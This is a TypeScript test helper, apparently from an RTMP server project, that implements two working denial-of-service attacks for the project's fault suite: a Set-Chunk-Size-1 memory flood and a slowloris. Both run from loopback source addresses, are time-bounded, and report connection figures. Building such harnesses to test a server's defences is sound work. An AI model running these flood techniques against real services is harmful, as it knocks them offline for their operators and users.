// Hostile RTMP clients for tests and the fault suite: a Set-Chunk-Size-1 memory flood and a slowloris, from many
// loopback source addresses, each bounded in time; they return what happened as figures.
//
//   import { rtmpFlood, slowloris, loopbackAddresses } from '../support/rtmp-attacks.ts';
//   const addresses = loopbackAddresses(2, 60);                       // 127.0.0.2 … 127.0.0.60
//   const flood = await rtmpFlood({ host: '127.0.0.1', port, addresses, seconds: 10 });
//   const held = await slowloris({ host: '127.0.0.1', port, addresses, holdSeconds: 10 });
//   // → { connectionsOpened, connectionsRefused, connectionsClosedByServer, bytesSent, longestHoldMs }
//
// Both keep `connectionsPerAddress` (default 4) connections open per address and open a new one whenever the server
// drops one, until the time is up; then they close everything and resolve. They never throw for what the server does.
// - rtmpFlood: handshake, Set Chunk Size 1, a video message announced at 8 MiB - 1, then one-byte chunks of it as fast
//   as the socket takes them (an unfixed server keeps ~100 bytes of heap per 2 bytes sent).
// - slowloris: handshake, connect, then one ping request every `trickleMs` (default 1000) so an idle timeout never
//   fires, never publishing; it tries to hold every slot for holdSeconds.
// Run alone (a separate process keeps the attacker's CPU and memory out of the server's figures):
//   node --import tsx test/support/rtmp-attacks.ts flood|slowloris --port N [--seconds 10] [--from 2 --to 60]
//   prints the figures as one JSON line.
import net from 'node:net';
import { parseArgs } from 'node:util';
import { pathToFileURL } from 'node:url';
import { ChunkWriter } from '../../origin/rtmp/chunk-writer.ts';
import { HANDSHAKE_PACKET_SIZE } from '../../origin/rtmp/handshake.ts';
import { command, encodeMessage } from '../../origin/rtmp/messages.ts';
import type { RtmpMessage } from '../../origin/rtmp/messages.ts';

export interface AttackOptions {
  host: string;
  port: number;
  /** Source addresses, e.g. loopbackAddresses(2, 60). */
  addresses: string[];
  /** Connections kept open per address at once (default 4). */
  connectionsPerAddress?: number;
  /** Pause before replacing a dropped connection, per slot (default 20 ms), so the attacker does not spin. */
  reconnectDelayMs?: number;
}

export interface AttackFigures {
  /** TCP connections that were established. */
  connectionsOpened: number;
  /** Closed by the server before it sent anything (refused at accept, or evicted before the handshake). */
  connectionsRefused: number;
  /** Closed by the server after it answered the handshake (deadline, protocol error, eviction). */
  connectionsClosedByServer: number;
  /** Connection attempts that failed outright (ECONNREFUSED and the like). */
  connectFailures: number;
  bytesSent: number;
  /** The longest any one connection stayed open. */
  longestHoldMs: number;
}

/** '127.0.0.<from>' … '127.0.0.<to>'. */
export function loopbackAddresses(from: number, to: number): string[] {
  return Array.from({ length: to - from + 1 }, (_, i) => `127.0.0.${from + i}`);
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

function handshake(): Buffer {
  const c0c1 = Buffer.alloc(1 + HANDSHAKE_PACKET_SIZE, 0x5a);
  c0c1[0] = 3;
  c0c1.fill(0, 1, 9);
  const c2 = Buffer.alloc(HANDSHAKE_PACKET_SIZE, 0xc2);
  return Buffer.concat([c0c1, c2]);
}

function chunks(messages: RtmpMessage[]): Buffer {
  const writer = new ChunkWriter();
  return Buffer.concat(messages.map((m) => writer.write(encodeMessage(m))));
}

/** Type 3 chunks of one byte each on chunk stream 4: `c4 xx`, a block as large as one socket write. */
const ONE_BYTE_CHUNKS = (() => {
  const block = Buffer.alloc(64 * 1024);
  for (let i = 0; i < block.length; i += 2) block[i] = 0xc4;
  return block;
})();

const FLOOD_PREAMBLE = Buffer.concat([
  handshake(),
  chunks([{ type: 'set-chunk-size', chunkSize: 1 }]),
  // Video, chunk stream 4, 0x7fffff bytes announced, then its first byte (chunk size is now 1).
  Buffer.from('04 000000 7fffff 09 01000000 00'.replace(/ /g, ''), 'hex'),
]);

const SLOWLORIS_PREAMBLE = Buffer.concat([
  handshake(),
  chunks([command('connect', 1, { app: 'live', type: 'nonprivate', tcUrl: 'rtmp://127.0.0.1/live' })]),
]);

type Behaviour = (socket: net.Socket, sent: (bytes: number) => void, until: number) => void;

/** One slot: a connection from `address` doing `behaviour`, replaced whenever it ends, until `until`. */
async function holdSlot(options: AttackOptions, address: string, behaviour: Behaviour, until: number, figures: AttackFigures): Promise<void> {
  while (Date.now() < until) {
    await new Promise<void>((done) => {
      const socket = net.connect({ host: options.host, port: options.port, localAddress: address });
      let opened = 0;
      let answered = false;
      let ended = false;
      const stop = setTimeout(() => socket.destroy(), Math.max(0, until - Date.now()));
      socket.on('connect', () => {
        opened = Date.now();
        figures.connectionsOpened++;
        behaviour(socket, (n) => (figures.bytesSent += n), until);
      });
      socket.on('data', () => (answered = true));
      socket.on('error', () => {});
      socket.on('close', () => {
        if (ended) return;
        ended = true;
        clearTimeout(stop);
        if (!opened) figures.connectFailures++;
        else {
          figures.longestHoldMs = Math.max(figures.longestHoldMs, Date.now() - opened);
          // Our own stop at `until` is not the server's doing.
          if (Date.now() < until - 5) {
            if (answered) figures.connectionsClosedByServer++;
            else figures.connectionsRefused++;
          }
        }
        done();
      });
    });
    await sleep(options.reconnectDelayMs ?? 20);
  }
}

async function attack(options: AttackOptions, seconds: number, behaviour: Behaviour): Promise<AttackFigures> {
  const figures: AttackFigures = {
    connectionsOpened: 0,
    connectionsRefused: 0,
    connectionsClosedByServer: 0,
    connectFailures: 0,
    bytesSent: 0,
    longestHoldMs: 0,
  };
  const until = Date.now() + seconds * 1000;
  const perAddress = options.connectionsPerAddress ?? 4;
  await Promise.all(options.addresses.flatMap((address) => Array.from({ length: perAddress }, () => holdSlot(options, address, behaviour, until, figures))));
  return figures;
}

/** The Set-Chunk-Size-1 flood: one-byte chunks of a message that never ends, as fast as each socket drains. */
export function rtmpFlood(options: AttackOptions & { seconds: number }): Promise<AttackFigures> {
  return attack(options, options.seconds, (socket, sent, until) => {
    socket.write(FLOOD_PREAMBLE);
    sent(FLOOD_PREAMBLE.length);
    const pump = (): void => {
      while (!socket.destroyed && Date.now() < until) {
        sent(ONE_BYTE_CHUNKS.length);
        if (!socket.write(ONE_BYTE_CHUNKS)) {
          socket.once('drain', pump);
          return;
        }
      }
    };
    pump();
  });
}

/** Slowloris: handshake and connect, then a ping every trickleMs, never publishing. */
export function slowloris(options: AttackOptions & { holdSeconds: number; trickleMs?: number }): Promise<AttackFigures> {
  const trickleMs = options.trickleMs ?? 1000;
  return attack(options, options.holdSeconds, (socket, sent) => {
    socket.write(SLOWLORIS_PREAMBLE);
    sent(SLOWLORIS_PREAMBLE.length);
    let i = 0;
    const timer = setInterval(() => {
      const ping = chunks([{ type: 'user-control', event: { kind: 'ping-request', timestamp: i++ } }]);
      socket.write(ping);
      sent(ping.length);
    }, trickleMs);
    socket.on('close', () => clearInterval(timer));
  });
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const { positionals, values } = parseArgs({
    allowPositionals: true,
    options: {
      host: { type: 'string', default: '127.0.0.1' },
      port: { type: 'string' },
      seconds: { type: 'string', default: '10' },
      from: { type: 'string', default: '2' },
      to: { type: 'string', default: '60' },
      'per-address': { type: 'string', default: '4' },
    },
  });
  const kind = positionals[0];
  if ((kind !== 'flood' && kind !== 'slowloris') || !values.port) {
    console.error('usage: rtmp-attacks.ts flood|slowloris --port N [--seconds 10] [--from 2 --to 60] [--per-address 4]');
    process.exit(2);
  }
  const base = {
    host: values.host,
    port: Number(values.port),
    addresses: loopbackAddresses(Number(values.from), Number(values.to)),
    connectionsPerAddress: Number(values['per-address']),
  };
  const seconds = Number(values.seconds);
  const figures = kind === 'flood' ? await rtmpFlood({ ...base, seconds }) : await slowloris({ ...base, holdSeconds: seconds });
  console.log(JSON.stringify({ attack: kind, ...figures }));
}
